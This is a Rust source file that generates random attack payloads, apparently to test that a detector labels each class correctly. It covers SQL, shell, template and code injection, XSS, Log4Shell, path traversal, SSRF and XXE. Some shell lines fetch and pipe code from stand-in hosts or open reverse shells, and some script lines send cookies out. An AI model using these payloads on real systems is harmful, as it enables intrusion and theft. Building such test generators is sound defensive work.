//! Attacks, class by class.

use inspect::Class;

use super::Dice;

/// Makes one attack.
pub(crate) type Make = fn(&mut Dice) -> String;

/// What is made: a name, the class that must find it, the maker.
pub(crate) const GRAMMARS: &[(&str, Class, Make)] = &[
    ("sql union", Class::SqlInjection, sql_union),
    ("sql boolean", Class::SqlInjection, sql_boolean),
    ("sql time", Class::SqlInjection, sql_time),
    ("sql error", Class::SqlInjection, sql_error),
    ("sql stacked", Class::SqlInjection, sql_stacked),
    ("shell posix", Class::CommandInjection, posix),
    ("shell cmd", Class::CommandInjection, cmd),
    ("shell powershell", Class::CommandInjection, powershell),
    ("xss tag", Class::CrossSiteScripting, xss_tag),
    ("xss attribute", Class::CrossSiteScripting, xss_attribute),
    ("xss address", Class::CrossSiteScripting, xss_address),
    ("xss script", Class::CrossSiteScripting, xss_script),
    ("xss mutation", Class::CrossSiteScripting, xss_mutation),
    ("path unix", Class::PathTraversal, path_unix),
    ("path windows", Class::PathTraversal, path_windows),
    ("path wrapper", Class::PathTraversal, path_wrapper),
    ("template", Class::TemplateInjection, template),
    ("log4shell", Class::Log4shell, log4shell),
    ("ldap", Class::LdapInjection, ldap),
    ("nosql", Class::NosqlInjection, nosql),
    ("header", Class::HeaderInjection, header),
    ("ssrf", Class::ServerSideRequestForgery, ssrf),
    ("xml entity", Class::XmlExternalEntity, xml_entity),
    ("code", Class::CodeInjection, code),
];

/// How a value leaves what it stands in: from a number, from a string of either quote, out of brackets.
fn sql_lead(dice: &mut Dice) -> (String, &'static str) {
    let number = dice.number();
    let word = dice.word();
    match dice.roll(6) {
        0 | 1 => (number, ""),
        2 => (format!("{word}'"), "'"),
        3 => (format!("{number}'"), "'"),
        4 => (format!("{word}\""), "\""),
        _ => (format!("{number}')"), "'"),
    }
}

fn sql_comment(dice: &mut Dice) -> &'static str {
    dice.pick(&["--", "-- -", "#", "/*", ";--", " -- "])
}

/// A value that is asked for.
fn sql_value(dice: &mut Dice) -> String {
    let column = dice.word();
    let number = dice.number();
    match dice.roll(8) {
        0 => number,
        1 => "null".into(),
        2 => "@@version".into(),
        3 => "version()".into(),
        4 => format!("concat({column},0x3a,{number})"),
        5 => "user()".into(),
        6 => format!("char({number})"),
        _ => column,
    }
}

fn sql_table(dice: &mut Dice) -> String {
    match dice.roll(7) {
        0 => "information_schema.tables".into(),
        1 => "all_tables".into(),
        2 => "sqlite_master".into(),
        3 => "pg_catalog.pg_tables".into(),
        4 => "sysobjects".into(),
        5 => "mysql.user".into(),
        _ => dice.word(),
    }
}

fn sql_union(dice: &mut Dice) -> String {
    let (lead, _) = sql_lead(dice);
    let all = dice.pick(&["", " all", " distinct"]);
    let columns = 1 + dice.roll(5);
    let mut list: Vec<String> = (0..columns).map(|_| sql_value(dice)).collect();
    if columns == 1 {
        list[0] = dice.pick(&["null", "version()", "@@version", "1"]).into();
    }
    let from = if dice.roll(2) == 0 { format!(" from {}", sql_table(dice)) } else { String::new() };
    format!("{lead} union{all} select {}{from}{}", list.join(","), sql_comment(dice))
}

fn sql_comparison(dice: &mut Dice) -> String {
    let number = dice.number();
    match dice.roll(9) {
        0 => format!("{number}={number}"),
        1 => format!("{number}<>{}", dice.number()),
        2 => format!("{number} between 1 and {}", dice.number()),
        3 => format!("{number} in ({number})"),
        4 => format!("ascii(substring(version(),1,1))>{number}"),
        5 => format!("length(database())={number}"),
        6 => format!("(select count(*) from {})>{number}", sql_table(dice)),
        7 => format!("'{}'='{}'", dice.word(), dice.word()),
        _ => format!("exists(select 1 from {})", sql_table(dice)),
    }
}

fn sql_boolean(dice: &mut Dice) -> String {
    let (lead, quote) = sql_lead(dice);
    let joins = dice.pick(&["or", "and", "||", "&&", "xor"]);
    let not = dice.pick(&["", "", "not "]);
    let end = if quote.is_empty() || dice.roll(2) == 0 {
        format!("{}{}", sql_comparison(dice), sql_comment(dice))
    } else {
        let word = dice.word();
        format!("{quote}{word}{quote}={quote}{word}")
    };
    format!("{lead} {joins} {not}{end}")
}

fn sql_time(dice: &mut Dice) -> String {
    let (lead, _) = sql_lead(dice);
    let seconds = dice.roll(20) + 1;
    let call = match dice.roll(7) {
        0 => format!("and sleep({seconds})"),
        1 => format!("; waitfor delay '0:0:{seconds}'"),
        2 => format!("; select pg_sleep({seconds})"),
        3 => format!("and (select {seconds} from (select(sleep({seconds})))x)"),
        4 => format!("and benchmark({}000,md5({seconds}))", dice.number()),
        5 => format!("or {seconds}=dbms_pipe.receive_message(chr({seconds}),{seconds})"),
        _ => {
            format!("and {seconds}=like('abcdefg',upper(hex(randomblob({}00000))))", dice.number())
        }
    };
    format!("{lead} {call}{}", sql_comment(dice))
}

fn sql_error(dice: &mut Dice) -> String {
    let (lead, _) = sql_lead(dice);
    let inner = format!("(select {} from {} limit 1)", sql_value(dice), sql_table(dice));
    let number = dice.number();
    let call = match dice.roll(7) {
        0 => format!("extractvalue({number},concat(0x7e,{inner}))"),
        1 => format!("updatexml(1,concat(0x7e,{inner}),{number})"),
        2 => format!("{number}=convert(int,{inner})"),
        3 => format!("{number}=cast({inner} as int)"),
        4 => format!("{number}=ctxsys.drithsx.sn({number},{inner})"),
        5 => format!(
            "(select {number} from(select count(*),concat({inner},floor(rand(0)*2))x from {} group by x)a)",
            sql_table(dice)
        ),
        _ => format!("{number}=utl_inaddr.get_host_name({inner})"),
    };
    format!("{lead} {} {call}{}", dice.pick(&["and", "or"]), sql_comment(dice))
}

fn sql_stacked(dice: &mut Dice) -> String {
    let (lead, _) = sql_lead(dice);
    let table = dice.word();
    let (column, value) = (dice.word(), dice.number());
    let statement = match dice.roll(7) {
        0 => format!("drop table {table}"),
        1 => format!("insert into {table} ({column}) values ({value})"),
        2 => format!("update {table} set {column}={value}"),
        3 => format!("delete from {table} where {column}={value}"),
        4 => format!("exec master..xp_cmdshell 'ping {value}'"),
        5 => format!("declare @{column} varchar({value})"),
        _ => format!("create table {table} ({column} text)"),
    };
    format!("{lead};{}{statement}{}", dice.pick(&["", " "]), sql_comment(dice))
}

fn shell_separator(dice: &mut Dice) -> &'static str {
    dice.pick(&[";", "|", "||", "&&", "&", "; ", " | ", " && ", "\n"])
}

fn posix_command(dice: &mut Dice) -> String {
    let host = format!("{}.example.org", dice.word());
    let file =
        dice.pick(&["/etc/passwd", "/etc/shadow", "/proc/self/environ", "/var/www/config.php"]);
    match dice.roll(14) {
        0 => format!("cat {file}"),
        1 => "id".into(),
        2 => "whoami".into(),
        3 => "uname -a".into(),
        4 => format!("wget http://{host}/{}", dice.word()),
        5 => format!("curl -s {host}|sh"),
        6 => format!("nc -e /bin/sh {host} {}", dice.number()),
        7 => format!("ping -c {} {host}", dice.roll(9) + 1),
        8 => format!("/bin/{} {file}", dice.pick(&["cat", "ls", "head", "tac"])),
        9 => format!("ls -la {}", dice.pick(&["/", "/tmp", "/home", "."])),
        10 => format!("c{}at {file}", dice.pick(&["''", "\"\"", "\\", "$@", "${u}"])),
        11 => format!("cat${{IFS}}{file}"),
        12 => format!("/???/c?t {file}"),
        _ => format!("python3 -c 'import os;os.system(\"{}\")'", dice.pick(&["id", "ls"])),
    }
}

fn posix(dice: &mut Dice) -> String {
    let lead = match dice.roll(4) {
        0 => String::new(),
        1 => dice.word(),
        2 => format!("10.0.0.{}", dice.roll(250)),
        _ => dice.number(),
    };
    let command = posix_command(dice);
    match dice.roll(5) {
        0 => format!("{lead}$({command})"),
        1 if !lead.contains(' ') => format!("{lead}`{command}`"),
        _ => format!("{lead}{}{command}", shell_separator(dice)),
    }
}

fn cmd(dice: &mut Dice) -> String {
    let lead = if dice.roll(2) == 0 { dice.word() } else { dice.number() };
    let command = match dice.roll(8) {
        0 => "dir c:\\".to_owned(),
        1 => "type c:\\windows\\win.ini".into(),
        2 => "ipconfig /all".into(),
        3 => "whoami /priv".into(),
        4 => format!("ping -n {} 127.0.0.1", dice.roll(30) + 1),
        5 => format!("certutil -urlcache -f http://{}.example/a a.exe", dice.word()),
        6 => format!("net user {} {} /add", dice.word(), dice.word()),
        _ => "c^m^d /c dir".into(),
    };
    format!("{lead}{}{command}", dice.pick(&["&", "&&", "|", "||", " & ", " | "]))
}

fn powershell(dice: &mut Dice) -> String {
    let lead = dice.word();
    let host = format!("http://{}.example/{}.ps1", dice.word(), dice.word());
    let command = match dice.roll(6) {
        0 => format!("powershell -c \"{}\"", dice.pick(&["dir", "whoami"])),
        1 => format!("powershell.exe -nop -w hidden -enc {}AA==", dice.word()),
        2 => format!("Invoke-WebRequest -Uri {host}"),
        3 => format!("iwr {host} -OutFile a.exe"),
        4 => "Get-ChildItem C:\\".into(),
        _ => "Get-Process | Out-String".into(),
    };
    format!("{lead}{}{command}", dice.pick(&[";", "|", "; ", "&", " | "]))
}

/// Script that shows that it runs.
fn script(dice: &mut Dice) -> String {
    let number = dice.number();
    match dice.roll(8) {
        0 => format!("alert({number})"),
        1 => "alert(document.cookie)".into(),
        2 => format!("prompt`{number}`"),
        3 => format!("(confirm)({number})"),
        4 => "eval(atob('YWxlcnQoMSk='))".into(),
        5 => format!("fetch('//{}.example/?'+document.cookie)", dice.word()),
        6 => format!("window['al'+'ert']({number})"),
        _ => format!("document.location='http://{}.example/'+document.cookie", dice.word()),
    }
}

fn event(dice: &mut Dice) -> &'static str {
    dice.pick(&[
        "onerror",
        "onload",
        "onclick",
        "onfocus",
        "onmouseover",
        "ontoggle",
        "onpointerenter",
        "onanimationstart",
        "onbeforeinput",
        "onscrollend",
        "ontransitionend",
        "oncut",
        "onauxclick",
        "onwheel",
        "onbeforetoggle",
        "oncontentvisibilityautostatechange",
        "onsecuritypolicyviolation",
    ])
}

fn quoted(dice: &mut Dice, value: &str) -> String {
    match dice.roll(3) {
        0 if !value.contains('"') => format!("\"{value}\""),
        1 if !value.contains('\'') => format!("'{value}'"),
        _ if !value.contains([' ', '>']) => value.to_owned(),
        _ => format!("\"{}\"", value.replace('"', "")),
    }
}

fn xss_tag(dice: &mut Dice) -> String {
    let (event, script) = (event(dice), script(dice));
    let value = quoted(dice, &script);
    let name = dice.pick(&[
        "img",
        "svg",
        "body",
        "input",
        "details",
        "video",
        "audio",
        "marquee",
        "a",
        "div",
        "math",
        "x",
        "custom-tag",
        "style",
        "button",
    ]);
    let gap = dice.pick(&[" ", "/", "\t", "\n", "\x0c", " a=b "]);
    let extra =
        dice.pick(&["", " src=x", " autofocus tabindex=1", " open", " style=display:block"]);
    let end = dice.pick(&[">", "/>", ">x", "", " x"]);
    format!(
        "{}<{name}{gap}{event}={value}{extra}{end}",
        dice.pick(&["", "\">", "'>", "-->", "</title>"])
    )
}

fn xss_attribute(dice: &mut Dice) -> String {
    let quote = dice.pick(&["\"", "'"]);
    let script = script(dice).replace(quote, "");
    format!("{}{quote}{}{}={quote}{script}", dice.word(), dice.pick(&[" ", "/", "\t"]), event(dice))
}

fn xss_address(dice: &mut Dice) -> String {
    let script = script(dice);
    match dice.roll(6) {
        0 => format!("javascript:{script}"),
        1 => format!("<a href=\"javascript:{}\">x</a>", script.replace('"', "")),
        2 => format!("<iframe src=\"java\tscript:{}\">", script.replace('"', "")),
        3 => "data:text/html,<script>alert(1)</script>".into(),
        4 => format!("<form action='javascript:{}'><button>", script.replace('\'', "")),
        _ => format!("<svg><a xlink:href=\"javascript:{}\"><text y=9>x", script.replace('"', "")),
    }
}

fn xss_script(dice: &mut Dice) -> String {
    let script = script(dice);
    match dice.roll(5) {
        0 => format!("<script>{script}</script>"),
        1 => format!("<script src=//{}.example/a.js></script>", dice.word()),
        2 => format!("</script><script>{script}//"),
        3 => format!("';{script};//"),
        _ => format!("\"-{script}-\""),
    }
}

fn xss_mutation(dice: &mut Dice) -> String {
    let script = script(dice).replace(['"', '\''], "");
    let event = event(dice);
    match dice.roll(6) {
        0 => format!("<noscript><p title=\"</noscript><img src=x {event}={script}>\">"),
        1 => format!(
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 {event}={script}&gt;\">"
        ),
        2 => format!("<svg></p><style><a id=\"</style><img src=1 {event}={script}>\">"),
        3 => format!("<template><svg {event}={script}></template>"),
        4 => format!("<svg><animate attributeName=href values=javascript:{script} /><a id=x>"),
        _ => format!(
            "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img {event}={script} src>\">"
        ),
    }
}

fn path_unix(dice: &mut Dice) -> String {
    let up = dice.pick(&["../", "..//", "....//", "..;/", "./../", "..././"]);
    let steps = 2 + dice.roll(8);
    let file = dice.pick(&[
        "etc/passwd",
        "etc/shadow",
        "etc/hosts",
        "proc/self/environ",
        "var/log/apache2/access.log",
        "root/.ssh/id_rsa",
        "etc/mysql/my.cnf",
        "opt/app/config.yml",
    ]);
    let end = dice.pick(&["", "", "\0.png", "?", "#"]);
    let lead = dice.pick(&["", "/", "images/", "./"]);
    if dice.roll(6) == 0 {
        return format!(
            "/{}{end}",
            dice.pick(&[
                "etc/passwd",
                "etc/nginx/nginx.conf",
                "proc/self/cmdline",
                "root/.bash_history",
                "var/log/auth.log"
            ])
        );
    }
    let extra = usize::from(lead == "images/");
    format!("{lead}{}{file}{end}", up.repeat(steps + extra))
}

fn path_windows(dice: &mut Dice) -> String {
    let file = dice.pick(&[
        "windows\\win.ini",
        "boot.ini",
        "windows\\system32\\drivers\\etc\\hosts",
        "inetpub\\wwwroot\\web.config",
        "users\\administrator\\ntuser.dat",
    ]);
    let steps = 2 + dice.roll(6);
    match dice.roll(5) {
        0 => format!("c:\\{file}"),
        1 => format!("C:/{}", file.replace('\\', "/")),
        2 => format!("\\\\10.0.{}.{}\\c$\\{file}", dice.roll(250), dice.roll(250)),
        3 => format!("{}{file}", "..\\".repeat(steps)),
        _ => format!("{}{}", "../".repeat(steps), file.replace('\\', "/")),
    }
}

fn path_wrapper(dice: &mut Dice) -> String {
    let word = dice.word();
    match dice.roll(8) {
        0 => format!("php://filter/convert.base64-encode/resource={word}.php"),
        1 => "php://input".into(),
        2 => format!("file:///etc/{word}"),
        3 => format!("expect://{word}"),
        4 => format!("phar://{word}.phar/{word}"),
        5 => "data://text/plain;base64,PD9waHA=".into(),
        6 => format!("zip://{word}.zip#{word}"),
        _ => format!("file:/c:/{word}/{word}.txt"),
    }
}

fn template(dice: &mut Dice) -> String {
    let (a, b) = (dice.number(), dice.number());
    let word = dice.pick(&["id", "ls", "whoami"]);
    match dice.roll(22) {
        0 => format!("{{{{{a}*{b}}}}}"),
        1 => format!("${{{a}*{b}}}"),
        2 => format!("#{{{a}*{b}}}"),
        3 => format!("*{{{a}*{b}}}"),
        4 => format!("<%= {a}*{b} %>"),
        5 => format!("@({a}+{b})"),
        6 => "{{config.items()}}".into(),
        7 => "{{''.__class__.__mro__[1].__subclasses__()}}".into(),
        8 => format!(
            "{{{{request.application.__globals__.__builtins__.__import__('os').popen('{word}').read()}}}}"
        ),
        9 => format!("{{{{['{word}']|filter('system')}}}}"),
        10 => format!(
            "{{{{_self.env.registerUndefinedFilterCallback('exec')}}}}{{{{_self.env.getFilter('{word}')}}}}"
        ),
        11 => {
            format!("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${{ex(\"{word}\")}}")
        }
        12 => format!("${{\"freemarker.template.utility.Execute\"?new()(\"{word}\")}}"),
        13 => format!(
            "#set($x='')##\n#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('{word}')"
        ),
        14 => format!("${{T(java.lang.Runtime).getRuntime().exec('{word}')}}"),
        15 => format!(
            "__${{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('{word}').getInputStream()).next()}}__::.x"
        ),
        16 => format!("%{{(#rt=@java.lang.Runtime@getRuntime()).exec('{word}')}}"),
        17 => format!("<%= system('{word}') %>"),
        18 => format!("{{php}}system('{word}');{{/php}}"),
        19 => format!("{{system('{word}')}}"),
        20 => format!(
            "{{{{#with \"s\" as |string|}}}}{{{{lookup string.sub \"constructor\"}}}}{{{{/with}}}}{word}"
        ),
        _ => format!(
            "{{{{constructor.constructor('return process')().mainModule.require('child_process').execSync('{word}')}}}}"
        ),
    }
}

fn log4shell(dice: &mut Dice) -> String {
    let spelt: String = "jndi"
        .chars()
        .map(|letter| match dice.roll(5) {
            0 => format!("${{lower:{letter}}}"),
            1 => format!("${{upper:{letter}}}"),
            2 => format!("${{::-{letter}}}"),
            3 => format!("${{env:{}:-{letter}}}", dice.word().to_uppercase()),
            _ => letter.to_string(),
        })
        .collect();
    format!(
        "${{{spelt}:{}://{}.example/{}}}",
        dice.pick(&["ldap", "rmi", "dns", "ldaps"]),
        dice.word(),
        dice.word()
    )
}

fn ldap(dice: &mut Dice) -> String {
    let attribute =
        dice.pick(&["uid", "cn", "mail", "objectClass", "userPassword", "sAMAccountName"]);
    match dice.roll(4) {
        0 => format!("*)({attribute}=*"),
        1 => format!("{})(|({attribute}=*", dice.word()),
        2 => format!("*)(&({attribute}={}", dice.word()),
        _ => format!("{})({attribute}=*))(|({attribute}=*", dice.word()),
    }
}

fn nosql(dice: &mut Dice) -> String {
    let operator = dice.pick(&["$ne", "$gt", "$regex", "$where", "$nin", "$exists", "$or"]);
    match dice.roll(3) {
        0 => format!("{{\"{operator}\": {}}}", dice.number()),
        1 => format!("{{\"{}\": {{\"{operator}\": \"\"}}}}", dice.word()),
        _ => format!("', {operator}: '{}", dice.number()),
    }
}

fn header(dice: &mut Dice) -> String {
    let lead = dice.word();
    let line = match dice.roll(6) {
        0 => format!("Set-Cookie: {}={}", dice.word(), dice.number()),
        1 => "Content-Length: 0".into(),
        2 => format!("X-Forwarded-For: 10.0.0.{}", dice.roll(250)),
        3 => format!("Bcc: {}@example.org", dice.word()),
        4 => "Content-Type: text/html\r\n\r\n<h1>x</h1>".into(),
        _ => format!("HTTP/1.1 200 OK\r\n{}: x", dice.word()),
    };
    format!("{lead}\r\n{line}")
}

fn ssrf(dice: &mut Dice) -> String {
    let path = dice.word();
    match dice.roll(9) {
        0 => format!("http://169.254.169.254/latest/{path}"),
        1 => format!("http://127.0.0.1:{}/{path}", dice.number()),
        2 => format!("http://localhost/{path}"),
        3 => format!("gopher://127.0.0.1:6379/_{path}"),
        4 => format!("http://[::1]/{path}"),
        5 => format!("http://2130706433/{path}"),
        6 => format!("http://0x7f000001/{path}"),
        7 => format!("dict://10.0.0.1:11211/{path}"),
        _ => format!("http://{path}@127.0.0.1/"),
    }
}

fn xml_entity(dice: &mut Dice) -> String {
    let name = dice.word();
    match dice.roll(3) {
        0 => format!("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY {name} SYSTEM \"file:///etc/passwd\">]><r>&{name};</r>"),
        1 => format!("<!DOCTYPE r [<!ENTITY % {name} SYSTEM \"http://{}.example/e.dtd\"> %{name};]>", dice.word()),
        _ => "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></x>".into(),
    }
}

fn code(dice: &mut Dice) -> String {
    let word = dice.pick(&["id", "ls -la", "whoami"]);
    match dice.roll(9) {
        0 => format!("<?php system('{word}'); ?>"),
        1 => format!("<?=`{word}`?>"),
        2 => format!("system('{word}');"),
        3 => format!(";exec(\"{word}\");//"),
        4 => "phpinfo();".into(),
        5 => "${@phpinfo()}".into(),
        6 => format!("__import__('os').system('{word}')"),
        7 => format!("require('child_process').exec('{word}')"),
        _ => format!("java.lang.Runtime.getRuntime().exec(\"{word}\")"),
    }
}
